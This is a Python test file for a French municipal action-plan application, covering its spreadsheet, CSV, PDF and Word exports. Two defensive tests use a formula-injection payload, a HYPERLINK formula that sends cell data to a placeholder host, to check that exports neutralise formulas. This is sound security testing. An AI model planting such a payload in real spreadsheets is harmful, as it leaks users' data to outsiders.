import csv
import datetime
import io
import re
from decimal import Decimal

import pytest
from django.urls import reverse
from docx import Document
from openpyxl import load_workbook
from openpyxl.utils import column_index_from_string, get_column_letter
from pypdf import PdfReader

from conftest import ALL_VIEWERS
from pvd.actions.selectors import maquette
from pvd.actions.tests.factories import AxeFactory, FicheFactory, LigneFactory, OrganisationFactory, make_piece
from tests.utils import assert_refused

pytestmark = pytest.mark.django_db
CAN_VIEW = {"chef_de_projet", "equipe", "elu", "partenaire", "lecteur", "prefecture", "anct"}


def url(name, dossier, **kwargs):
    return reverse(f"actions:{name}", kwargs={"dossier_pk": dossier.pk, **kwargs})


@pytest.fixture
def plan(dossier):
    axe1, axe2 = (
        AxeFactory(dossier=dossier, numero=1, titre="Habitat"),
        AxeFactory(dossier=dossier, numero=2, titre="Commerce"),
    )
    etat, region = OrganisationFactory(nom="État"), OrganisationFactory(nom="Région Grand Est")
    halle = FicheFactory(
        dossier=dossier,
        numero=1,
        titre="Rénovation de la halle",
        cout_ht=Decimal("1000000"),
        inscrite_crte=True,
        description="Une halle couverte du XIXe siècle.",
        pilote="Claire Martin",
    )
    halle.axes.set([axe1])
    LigneFactory(fiche=halle, financeur=etat, dispositif="detr", montant=Decimal("300000"), statut="accorde")
    LigneFactory(fiche=halle, financeur=region, dispositif="region", montant=Decimal("200000"), statut="sollicite")
    halle.budgets.create(annee=2025, investissement=Decimal("600000"), fonctionnement=Decimal("10000"))
    halle.budgets.create(annee=2026, investissement=Decimal("400000"), fonctionnement=Decimal("5000"))
    ecole = FicheFactory(dossier=dossier, numero=2, titre="École", cout_ht=Decimal("500000"))
    ecole.axes.set([axe2])
    LigneFactory(fiche=ecole, financeur=etat, dispositif="dsil", montant=Decimal("100000"), statut="refuse")
    LigneFactory(fiche=ecole, financeur=etat, dispositif="fonds_vert", montant=Decimal("150000"), statut="accorde")
    ecole.budgets.create(annee=2025, investissement=Decimal("500000"), fonctionnement=Decimal("0"))
    return halle, ecole


def test_maquette_page_totals(client_for, dossier, plan, main):
    content = main(client_for(dossier, "elu").get(url("maquette", dossier)))
    financeurs = content.select_one("#maquette-financeurs")
    rows = {
        tr.th.get_text(strip=True): [td.get_text(strip=True).replace("\xa0", " ") for td in tr.select("td")]
        for tr in financeurs.select("tbody tr")
    }
    # Whole amounts without ",00" (test_display.py checks that cents are kept).
    assert rows["État"] == ["450 000", "0", "100 000"]
    assert rows["Région Grand Est"] == ["0", "200 000", "0"]
    total = [td.get_text(strip=True).replace("\xa0", " ") for td in financeurs.select("tfoot td")]
    assert total == ["450 000", "200 000", "100 000"]
    years = content.select_one("#maquette-annees tfoot").get_text().replace("\xa0", " ")
    assert "1 500 000" in years and "15 000" in years and ",00" not in years


@pytest.mark.parametrize("kind", ALL_VIEWERS)
def test_maquette_xlsx_per_viewer_numbers_and_formulas(client_for, dossier, plan, kind):
    response = client_for(dossier, kind).get(url("maquette_xlsx", dossier))
    if kind not in CAN_VIEW:
        assert response.status_code == (302 if kind == "anonymous" else 404)
        return
    workbook = load_workbook(io.BytesIO(response.content))
    assert workbook.sheetnames == [
        "Par année",
        "Par financeur",
        "Par dispositif",
        "Par axe",
        "Par statut des fiches",
        "Prévu et réalisé par année",
        "Prévu et réalisé par fiche",
        "Accordé et versé par financeur",
    ]
    sheet = workbook["Par financeur"]
    assert [c.value for c in sheet[1]] == ["Financeur", "Accordé (€)", "Sollicité (€)", "Refusé (€)"]
    assert sheet["A2"].value == "Région Grand Est" and sheet["C2"].value == 200000
    assert sheet["A3"].value == "État" and sheet["B3"].value == 450000 and isinstance(sheet["B3"].value, int | float)
    assert sheet["A4"].value == "Total" and sheet["B4"].value == "=SUM(B2:B3)"
    years = workbook["Par année"]
    assert [years["A2"].value, years["B2"].value, years["D2"].value] == ["2025", 1100000, "=SUM(B2:C2)"]
    assert years["D4"].value == "=SUM(D2:D3)"


SUM_RE = re.compile(r"=SUM\(([A-Z]+)(\d+):([A-Z]+)(\d+)\)")


def evaluate(sheet, coordinate):
    """The value of a cell, computing =SUM(A1:B2) formulas (the only ones the workbook uses)."""
    value = sheet[coordinate].value
    if not isinstance(value, str) or not value.startswith("="):
        return value
    match = SUM_RE.fullmatch(value)
    assert match, value
    first, top, last, bottom = match[1], int(match[2]), match[3], int(match[4])
    return sum(
        evaluate(sheet, f"{get_column_letter(col)}{row}")
        for col in range(column_index_from_string(first), column_index_from_string(last) + 1)
        for row in range(top, bottom + 1)
    )


def test_maquette_xlsx_every_total_is_a_formula_equal_to_the_page(client_for, dossier, plan):
    ecole = plan[1]
    ecole.statut = "en_cours"  # two lines in the sheet by status too
    ecole.save()
    # Two funders with an accordé line: two lines in the sheet of what was paid too.
    LigneFactory(
        fiche=ecole,
        financeur=OrganisationFactory(nom="Région"),
        dispositif="region",
        montant=Decimal("1000"),
        statut="accorde",
        montant_verse=Decimal("400"),
    )
    response = client_for(dossier, "equipe").get(url("maquette_xlsx", dossier))
    workbook = load_workbook(io.BytesIO(response.content))
    tables = maquette(dossier, None)
    assert [t.title for t in tables] == workbook.sheetnames
    for table in tables:
        sheet = workbook[table.title]
        width, last = len(table.headers), len(table.rows) + 1  # last data row
        assert len(table.rows) >= 2, table.title  # the sums cover more than one line
        total_row = last + 1
        assert sheet[f"A{total_row}"].value == "Total"
        for i in range(width):
            col = get_column_letter(i + 2)
            # The total row: a column sum over every data row.
            assert sheet[f"{col}{total_row}"].value == f"=SUM({col}2:{col}{last})", (table.title, col)
            assert evaluate(sheet, f"{col}{total_row}") == table.totals[i], (table.title, col)
            for row, (label, values) in enumerate(table.rows, start=2):
                assert sheet[f"A{row}"].value == label
                cell = sheet[f"{col}{row}"]
                if table.title == "Par année" and header_is_total(table.headers[i]):
                    assert cell.value == f"=SUM(B{row}:C{row})"
                else:
                    assert isinstance(cell.value, int | float), (table.title, cell.coordinate, cell.value)
                    if not table.money[i]:  # counts of fiches are integers
                        assert type(cell.value) is int, (table.title, cell.coordinate)
                assert evaluate(sheet, cell.coordinate) == values[i], (table.title, cell.coordinate)
    # Hand-checked: 2025 = 600 000 + 10 000 + 500 000; 2026 = 400 000 + 5 000.
    years = workbook["Par année"]
    assert [evaluate(years, "D2"), evaluate(years, "D3"), evaluate(years, "D4")] == [1110000, 405000, 1515000]
    statuts = workbook["Par statut des fiches"]
    assert statuts["A4"].value == "Total" and evaluate(statuts, "B4") == 2  # notes follow the table


def header_is_total(header: str) -> bool:
    return header.startswith("Total")


def test_plan_xlsx_and_csv(client_for, dossier, plan):
    client = client_for(dossier, "lecteur")
    workbook = load_workbook(io.BytesIO(client.get(url("plan_xlsx", dossier)).content))
    fiches = workbook["Fiches"]
    header = [c.value for c in fiches[1]]
    row = dict(zip(header, [c.value for c in fiches[2]], strict=True))
    assert row["Titre"] == "Rénovation de la halle" and row["Coût HT (€)"] == 1000000
    assert row["Début prévu"].date() == datetime.date(2025, 1, 1) and row["Axes (numéros ou noms)"] == "1"
    assert workbook["Financements"].max_row == 5 and workbook["Budgets"].max_row == 4

    raw = client.get(url("plan_csv", dossier)).content
    assert raw.startswith(b"\xef\xbb\xbf")
    lines = list(csv.reader(io.StringIO(raw.decode("utf-8-sig")), delimiter=";"))
    assert lines[0][:2] == ["Numéro", "Titre"]
    assert lines[1][1] == "Rénovation de la halle" and "1000000,00" in lines[1] and "300000,00" in lines[1]
    assert len(lines) == 3


def test_crte_export_only_inscribed(client_for, dossier, plan):
    client = client_for(dossier, "prefecture")
    workbook = load_workbook(io.BytesIO(client.get(url("crte_export", dossier)).content))
    titles = [r[1].value for r in workbook["Fiches"].iter_rows(min_row=2)]
    assert titles == ["Rénovation de la halle"]
    raw = client.get(url("crte_export", dossier), {"format": "csv"}).content.decode("utf-8-sig")
    assert "Rénovation de la halle" in raw and "École" not in raw


def test_fiche_pdf_text(client_for, dossier, plan):
    halle, _ = plan
    response = client_for(dossier, "partenaire").get(url("fiche_pdf", dossier, fiche_pk=halle.pk))
    assert response["Content-Type"] == "application/pdf"
    text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages).replace("\xa0", " ")
    for expected in (
        "Fiche action n° 1",
        "Rénovation de la halle",
        "Claire Martin",
        "Une halle couverte",
        "DETR",
        "Région Grand Est",
        "Sollicité",
        "30,00 %",
        "700 000,00 €",
    ):
        assert expected in text, expected


def test_fiche_docx_read_back(client_for, dossier, plan):
    halle, _ = plan
    response = client_for(dossier, "anct").get(url("fiche_docx", dossier, fiche_pk=halle.pk))
    document = Document(io.BytesIO(response.content))
    text = "\n".join(p.text for p in document.paragraphs)
    assert "Fiche action n° 1 — Rénovation de la halle" in text
    assert "reste à financer : 700\xa0000,00\xa0€" in text
    cells = [c.text for t in document.tables for row in t.rows for c in row.cells]
    assert "Claire Martin" in cells and "DETR" in cells and "30,00\xa0%" in cells


@pytest.mark.parametrize("state", [True, False])
def test_fiche_pdf_follows_state_branding(client_for, dossier, plan, settings, state):
    settings.PVD_BRANDING = {**settings.PVD_BRANDING, "state": state, "site_title": "Ma plateforme"}
    halle, _ = plan
    response = client_for(dossier, "equipe").get(url("fiche_pdf", dossier, fiche_pk=halle.pk))
    text = " ".join(page.extract_text() for page in PdfReader(io.BytesIO(response.content)).pages)
    assert ("RÉPUBLIQUE" in text.upper()) is state
    assert "Ma plateforme" in text


@pytest.mark.parametrize("kind", ALL_VIEWERS)
@pytest.mark.parametrize(
    ("name", "params", "content_type"),
    [
        ("plan_xlsx", {}, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("plan_csv", {}, "text/csv; charset=utf-8"),
        ("crte_export", {}, "application/vnd.openxmlformats-officedocument.spreadsheetml.sheet"),
        ("crte_export", {"format": "csv"}, "text/csv; charset=utf-8"),
    ],
)
def test_plan_exports_per_viewer(client_for, dossier, kind, name, params, content_type):
    FicheFactory(dossier=dossier, inscrite_crte=True)
    response = client_for(dossier, kind).get(url(name, dossier), params)
    if kind in CAN_VIEW:
        assert response.status_code == 200 and response["Content-Type"] == content_type
        assert response["Content-Disposition"].startswith("attachment;")
    else:
        assert_refused(response, kind)


INJECTION = '=HYPERLINK("http://exemple.invalid/?x="&A1,"Cliquez")'


def test_xlsx_export_writes_text_never_formulas_and_reimports_identically(client_for, dossier):
    import io
    import zipfile

    from openpyxl import load_workbook

    from pvd.actions.importer import import_plan
    from pvd.actions.models import FicheAction
    from pvd.actions.tests.factories import LigneFactory, OrganisationFactory

    fiche = FicheFactory(dossier=dossier, titre=INJECTION, pilote="+33 6 00", description="@SUM(1)")
    LigneFactory(fiche=fiche, financeur=OrganisationFactory(nom="=1+1"), montant=Decimal("5"))
    client = client_for(dossier, "chef_de_projet")
    for name in ("plan_xlsx", "crte_export", "maquette_xlsx"):
        if name == "crte_export":
            fiche.inscrite_crte = True
            fiche.save()
        content = client.get(url(name, dossier)).content
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            sheets = [archive.read(n).decode() for n in archive.namelist() if n.startswith("xl/worksheets/")]
        # Only the maquette's total rows are formulas (SUM), never a user's text.
        assert all(f.startswith("SUM(") for xml in sheets for f in _formulas(xml)), name
    content = client.get(url("plan_xlsx", dossier)).content
    workbook = load_workbook(io.BytesIO(content))
    cell = workbook["Fiches"]["B2"]
    assert cell.value == INJECTION and cell.data_type == "s"
    other = type(dossier).objects.get(pk=dossier.pk)
    FicheAction.objects.all().delete()
    fiches = import_plan(dossier=other, content=content, by=None)
    assert [f.titre for f in fiches] == [INJECTION]
    assert fiches[0].pilote == "+33 6 00" and fiches[0].description == "@SUM(1)"
    assert fiches[0].financements.get().financeur.nom == "=1+1"


def _formulas(xml: str) -> list[str]:
    import re

    return re.findall(r"<f>(.*?)</f>", xml)


def test_csv_export_neutralises_formulas(client_for, dossier):
    import csv
    import io

    FicheFactory(dossier=dossier, titre=INJECTION, pilote="+33 6 00", localisation="-1", cout_ht=Decimal("-0"))
    raw = client_for(dossier, "lecteur").get(url("plan_csv", dossier)).content.decode("utf-8-sig")
    header, row = list(csv.reader(io.StringIO(raw), delimiter=";"))
    values = dict(zip(header, row, strict=True))
    assert values["Titre"] == "'" + INJECTION
    assert values["Pilote"] == "'+33 6 00"
    assert not any(value[:1] in "=+@" for value in row if value)


@pytest.fixture
def full_fiche(dossier, media):
    from pvd.actions.models import Note

    fiche = FicheFactory(
        dossier=dossier,
        numero=4,
        titre="Maison de santé",
        confidentielle=True,
        located=True,
        cout_ht=Decimal("1000"),
        cout_ttc=None,
        priorite="moyenne",
    )
    LigneFactory(fiche=fiche, financeur=OrganisationFactory(nom="État"), montant=Decimal("250"), statut="accorde")
    LigneFactory(fiche=fiche, financeur=OrganisationFactory(nom="Région"), montant=Decimal("500"), statut="refuse")
    Note.objects.create(fiche=fiche, date=datetime.date(2025, 5, 2), texte="Réunion avec l'ARS faite")
    make_piece(fiche)
    return fiche


def confidential_text():
    """« Confidentielle (…) » in the model's words (the field's label), the documents' wording."""
    from pvd.actions.models import FicheAction

    label = str(FicheAction._meta.get_field("confidentielle").verbose_name)
    return label[0].upper() + label[1:]


def test_fiche_pdf_has_notes_pieces_confidentiality_and_point(client_for, dossier, full_fiche):
    import io

    from pypdf import PdfReader

    response = client_for(dossier, "equipe").get(url("fiche_pdf", dossier, fiche_pk=full_fiche.pk))
    text = " ".join(p.extract_text() for p in PdfReader(io.BytesIO(response.content)).pages).replace("\xa0", " ")
    text = " ".join(text.split())
    for expected in (
        "Notes de suivi",
        "02/05/2025",
        "Réunion avec l'ARS faite",
        "Pièces jointes",
        "Plan du site",
        confidential_text(),
        "47,862° N, 5,333° E",
        "Coût TTC non renseigné",
    ):
        assert expected in text, expected
    assert "— €" not in text


def test_fiche_pdf_priority_in_lower_case_mid_sentence(client_for, dossier, full_fiche, monkeypatch):
    """The badges are upper-cased by the style sheet: read the HTML the PDF is made from."""
    import weasyprint
    from bs4 import BeautifulSoup

    rendered = []

    class FakeHTML:
        def __init__(self, string):
            rendered.append(string)

        def write_pdf(self):
            return b"%PDF-"

    monkeypatch.setattr(weasyprint, "HTML", FakeHTML)
    client_for(dossier, "equipe").get(url("fiche_pdf", dossier, fiche_pk=full_fiche.pk))
    badges = [b.get_text() for b in BeautifulSoup(rendered[0], "html.parser").select(".badge")]
    assert "Priorité moyenne" in badges


def test_fiche_docx_has_notes_pieces_confidentiality_and_point(client_for, dossier, full_fiche):
    import io

    from docx import Document

    response = client_for(dossier, "chef_de_projet").get(url("fiche_docx", dossier, fiche_pk=full_fiche.pk))
    document = Document(io.BytesIO(response.content))
    paragraphs = [p.text for p in document.paragraphs]
    # The French separators are no-break spaces: compared here as plain spaces.
    cells = {row.cells[0].text: row.cells[1].text.replace("\xa0", " ") for row in document.tables[0].rows}
    assert cells["Confidentialité"] == confidential_text()
    assert cells["Coût TTC"] == "non renseigné" and cells["Coût HT"] == "1 000,00 €"
    financing = {
        row.cells[0].text: [c.text.replace("\xa0", " ") for c in row.cells[1:]] for row in document.tables[1].rows
    }
    assert financing["État"] == ["DETR", "250,00 €", "Accordé", "25,00 %"]
    assert financing["Région"] == ["DETR", "500,00 €", "Refusé", "—"]  # a refused line has no rate
    assert cells["Coordonnées du point"] == "47,862° N, 5,333° E"
    assert "02/05/2025 : Réunion avec l'ARS faite" in paragraphs
    assert paragraphs[paragraphs.index("Pièces jointes") + 1].startswith("Plan du site (")
    assert "Notes de suivi" in paragraphs
